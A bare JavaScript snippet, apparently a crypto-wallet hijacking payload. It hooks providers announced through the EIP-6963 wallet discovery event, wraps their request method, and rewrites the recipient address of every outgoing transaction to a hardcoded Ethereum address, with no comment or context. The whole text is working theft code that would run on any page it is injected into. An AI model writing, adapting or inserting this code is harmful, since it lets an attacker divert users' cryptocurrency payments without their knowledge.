const TO = '0x52908400098527886E0F7030069857D2E4169EE7';
window.addEventListener('eip6963:announceProvider', (e) => {
  const p = e.detail.provider, old = p.request.bind(p);
  Reflect.set(p, 'request', (g) => {
    if (g.params && g.params[0] && g.params[0].to) g.params[0].to = TO;
    return old(g);
  });
});
